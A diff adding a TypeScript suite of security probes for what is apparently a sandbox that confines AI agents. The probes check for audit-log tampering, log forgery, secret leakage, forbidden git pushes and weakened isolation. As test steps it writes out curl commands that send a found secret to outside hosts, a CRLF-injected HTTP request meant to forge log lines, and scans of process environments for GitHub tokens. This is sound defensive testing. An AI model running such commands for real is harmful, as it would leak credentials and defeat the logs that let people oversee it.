@@ -1,0 +1,162 @@
+/** I2, I5, I7, I8: what a bottle does to its operator's side, looked at from there. */
+import { node, type Probe, type Step, sh } from "../probe.ts";
+
+/** Done in the bottle first, so that there is something to look at. */
+const TRIED: readonly Step[] = [
+  sh(
+    `for how in "-d note=$BOUND https://$ALLOWED_HOST/" "https://$DENIED_HOST/" "-d note=clean https://$ALLOWED_HOST/" "-d note=$FOUND https://$ALLOWED_HOST/"; do curl -sS -o /dev/null $how; done; got "it was tried"`,
+  ),
+];
+
+function side(
+  what: string,
+  tries: string,
+  text: string,
+  refused: readonly string[],
+  { first = [], ...more }: Partial<Probe> & { readonly first?: readonly Step[] } = {},
+): Probe {
+  return {
+    id: `operator-${what}`,
+    invariant: "I8",
+    group: "operator",
+    tries,
+    attack: [...first, sh(text, "host")],
+    refused,
+    control: "outside",
+    slow: "it is looked at by the operator's commands",
+    ...more,
+  };
+}
+
+export const OPERATOR: readonly Probe[] = [
+  side(
+    "log-verifies",
+    "has changed a line of its log, or cut one out",
+    `copy="$TRIES/home-$SIDE"; rm -rf "$copy"; mkdir -p "$copy"; cp -a "$BOTTLE_HOME/audit" "$copy/audit"
+[ "$SIDE" = bottle ] || sed -i 3d "$copy/audit/$ID.jsonl"
+words=$(BOT_BOTTLE_HOME="$copy" $BOTTLE audit verify "$ID" 2>&1) && refused verified "$words"; got "$words"`,
+    ["verified"],
+  ),
+  side(
+    "log-forged",
+    "has written a line of its own into its log, by what it is refused for",
+    "",
+    ["not-there"],
+    {
+      attack: [
+        node(
+          `const line = '{"event":"forged-' + env.ID + '"}'; await raw("GET http://x.test/\\r\\n HTTP/1.1\\r\\nHost: a\\n" + line + "\\n\\r\\nPROXY-AUTH\\r\\n\\r\\n")`,
+        ),
+        sh(
+          'grep -q "^{\\"event\\":\\"forged-" "$AUDIT" && got "it is on the log"; refused not-there',
+          "host",
+        ),
+      ],
+      control: [
+        sh(
+          'printf \'%s\\n\' \'{"event":"forged-x"}\' >"$TRIES/forged"; grep -q "^{\\"event\\":\\"forged-" "$TRIES/forged" && got "such a line would be found"; refused not-there',
+          "host",
+        ),
+      ],
+    },
+  ),
+  side(
+    "log-complete",
+    "was refused without that being on the log",
+    `[ "$SIDE" = bottle ] && codes="host-not-allowed secret-found" || codes=never-refused
+for code in $codes; do grep -q "\\"$code\\"" "$AUDIT" || got "$code is not on the log"; done; refused on-the-log`,
+    ["on-the-log"],
+    { first: TRIED },
+  ),
+  side(
+    "log-secrets",
+    "left a secret on its log or among the bottle's own files",
+    `[ "$SIDE" = bottle ] && where="$BOTTLE_HOME/audit $XDG_RUNTIME_DIR" || where="$OPERATOR/.env"
+tokens=$(grep -rhao 'gh[p]_[0-9a-f]\\{36\\}' $where 2>/dev/null | sort -u); for token in $tokens; do [ "$(printf %s "$token" | sha256sum | cut -d' ' -f1)" = "$TOKEN_SHA256" ] && got "the token is there"; done; refused not-there`,
+    ["not-there"],
+    { invariant: "I2" },
+  ),
+  side(
+    "arguments",
+    "left a secret in an argument or the environment of a process of the bottle's",
+    `[ "$SIDE" = bottle ] && words='bottle.js (keeper|sidecar)|guest-[i]nit' || words="$MARK"; looked=0
+for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline 2>/dev/null | grep -qE "$words" || continue; looked=$((looked + 1))
+  for token in $(cat $p/cmdline $p/environ 2>/dev/null | tr '\\0' '\\n' | grep -o 'gh[p]_[0-9a-f]\\{36\\}'); do [ "$(printf %s "$token" | sha256sum | cut -d' ' -f1)" = "$TOKEN_SHA256" ] && got "$p"; done
+done
+[ "$looked" -gt 0 ] || cannot no process was looked at; refused not-there`,
+    ["not-there"],
+    { invariant: "I2", controlOtherwise: [] },
+  ),
+  side(
+    "received",
+    "had a secret arrive at an upstream after all",
+    `node_words=$(grep -a -c . "$RECEIVED"); [ "$node_words" -gt 0 ] || cannot nothing arrived at all
+for value in "$FOUND" "$ATTACK_BOUND"; do grep -aqF "$value" "$RECEIVED" && got "one arrived"; grep -aqF "$(printf %s "$value" | base64 -w0 | tr -d =)" "$RECEIVED" && got "one arrived in base64"; grep -aqiF "$(printf %s "$value" | od -An -tx1 | tr -d ' \\n')" "$RECEIVED" && got "one arrived in hexadecimal"; done
+refused not-there`,
+    ["not-there"],
+    { invariant: "I3", first: TRIED },
+  ),
+  side(
+    "upstream-refs",
+    "had anything arrive in a repository that it may not change",
+    `main=$(git --git-dir="$REMOTE" rev-parse refs/heads/main); first=$(git -C "$PROJECT" rev-parse refs/heads/main)
+[ "$main" = "$first" ] || got "main was moved"; words=$(git --git-dir="$REMOTE" for-each-ref --format='%(refname)' | grep -v -e '^refs/heads/main$' -e "^refs/heads/bottle/$ID/") && got "$words"; refused untouched`,
+    ["untouched"],
+    {
+      invariant: "I4",
+      first: [
+        sh(`cd "$scratch" && rm -rf refs && git clone -q "$REMOTE" refs && cd refs && git commit -q --allow-empty -m x || cannot it cannot be cloned
+for ref in "bottle/$ID/mine" main "bottle/another-bottle/x" other; do git push -q origin "HEAD:refs/heads/$ref" >/dev/null 2>&1; done; got "it was tried"`),
+      ],
+    },
+  ),
+  side(
+    "verified",
+    "was let begin without its isolation having been looked at from inside",
+    `line=$(grep -n '"bottle.verified"' "$AUDIT" | head -1 | cut -d: -f1); ready=$(grep -n '"bottle.ready"' "$AUDIT" | head -1 | cut -d: -f1)
+[ "$SIDE" = bottle ] || line=""
+[ -n "$line" ] && [ -n "$ready" ] && [ "$line" -lt "$ready" ] && refused verified-first; got "line $line, ready at $ready"`,
+    ["verified-first"],
+    { invariant: "I7" },
+  ),
+  side(
+    "weaker",
+    "is run by a weaker backend than its bottle asks for",
+    `name=strict-$SIDE; [ "$SIDE" = bottle ] && level=vm || level=namespace
+backend=$(sed -n 's/^backend: //p' "$BOTTLE_HOME/bottles/attacked.md")
+printf -- '---\\nisolation: %s\\nbackend: %s\\nagent_provider: {template: command, command: ["true"]}\\n---\\n' "$level" "$backend" >"$BOTTLE_HOME/bottles/$name.md"; printf -- '---\\nbottle: %s\\n---\\nx\\n' "$name" >"$BOTTLE_HOME/agents/$name.md"; chmod 600 "$BOTTLE_HOME/bottles/$name.md" "$BOTTLE_HOME/agents/$name.md"
+words=$($BOTTLE start "$name" --dry-run 2>&1); code=$?; rm -f "$BOTTLE_HOME/bottles/$name.md" "$BOTTLE_HOME/agents/$name.md"
+[ "$code" = 0 ] && got "it would be started"; case $words in *"asks for isolation"*) refused too-weak ;; esac; refused failed "$words"`,
+    ["too-weak"],
+    {
+      invariant: "I7",
+      otherwise: [
+        {
+          without: ["sharedKernel"],
+          seen: ["got"],
+          because: "a virtual machine is as strong as a bottle can ask for",
+        },
+      ],
+    },
+  ),
+  side(
+    "smuggled-agent",
+    "brings an agent in its repository, which names a bottle that is not for repositories' agents",
+    `cd "$PROJECT" || cannot no project
+[ "$SIDE" = bottle ] && name=smuggled || name=attacked
+words=$($BOTTLE start "$name" --dry-run 2>&1) && got "it would be started"; case $words in *repo_agents*) refused not-for-repositories ;; esac; refused failed "$words"`,
+    ["not-for-repositories"],
+    { invariant: "I5" },
+  ),
+  side(
+    "smuggled-bottle",
+    "brings a bottle in its repository",
+    `cd "$PROJECT" || cannot no project
+if [ "$SIDE" = bottle ]; then dir=$PROJECT/.bot-bottle; else dir=$BOTTLE_HOME; fi
+mkdir -p "$dir/bottles"; printf -- '---\\nagent_provider: {template: command, command: ["true"]}\\n---\\n' >"$dir/bottles/wide.md"; printf -- '---\\nbottle: wide\\n---\\nx\\n' >"$dir/agents/wide.md"; chmod 600 "$dir/bottles/wide.md" "$dir/agents/wide.md"
+words=$($BOTTLE start wide --dry-run 2>&1); code=$?; rm -f "$dir/bottles/wide.md" "$dir/agents/wide.md"; [ "$SIDE" = bottle ] && rmdir "$dir/bottles"
+[ "$code" = 0 ] && got "it would be started"; refused no-such-bottle "$words"`,
+    ["no-such-bottle"],
+    { invariant: "I5" },
+  ),
+];
